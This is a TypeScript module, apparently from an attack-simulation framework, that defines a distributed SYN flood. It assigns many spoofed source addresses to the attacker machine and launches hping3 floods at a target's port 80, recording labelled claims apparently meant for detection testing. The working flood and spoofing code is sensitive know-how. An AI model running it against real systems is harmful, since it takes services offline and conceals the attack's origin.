import { addressesOf, spareOutsideAddresses } from '../addresses.ts';
import type { Attack, Intensity } from '../contracts.ts';
import { type HpingPlan, hpingWords, runHping } from './hping.ts';

/** Of each source. */
const plans: Readonly<Record<Intensity, HpingPlan & { readonly sources: number }>> = {
  quiet: { sources: 12, packetsPerSecond: 0.8, mostPackets: 60 },
  medium: { sources: 30, packetsPerSecond: 5, mostPackets: 100 },
  loud: { sources: 60, packetsPerSecond: 16, mostPackets: 100 },
};
const webPort = 80;

/** Bots all over the world: addresses of their own that one machine answers for, a hping3 each. */
export const distributedFlood: Attack = {
  kind: 'distributed-syn-flood',
  summary: 'connections begun and never finished, from many hosts to one port',
  needs: ['hping3'],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'attacker',
  targets: ['server'],
  async run({ intensity, actor, targets, random, seconds, signal }) {
    const plan = plans[intensity];
    const sources = spareOutsideAddresses(plan.sources);
    const addresses = addressesOf(targets.slice(0, 1));
    await actor.machine.attempt('ip', ['-batch', '-'], {
      input: sources.map(source => `address add ${source}/32 dev eth0\n`).join(''),
    });
    const words = ['-S', '-p', String(webPort)];
    const wordsOf = (source: string): string[] => {
      const packetsPerSecond = plan.packetsPerSecond * (0.5 + random.fraction());
      return [...words, '-a', source, ...hpingWords({ ...plan, packetsPerSecond }, seconds), ...addresses];
    };
    await Promise.all(sources.map(source => runHping(actor, wordsOf(source), { seconds, signal })));
    return {
      tool: 'hping3',
      arguments: `${words.join(' ')} -a SOURCE ${addresses.join(' ')}, from ${plan.sources} sources`,
      claims: [{ actors: sources, targets: addresses, protocol: 'tcp', targetPorts: [webPort] }],
    };
  },
};
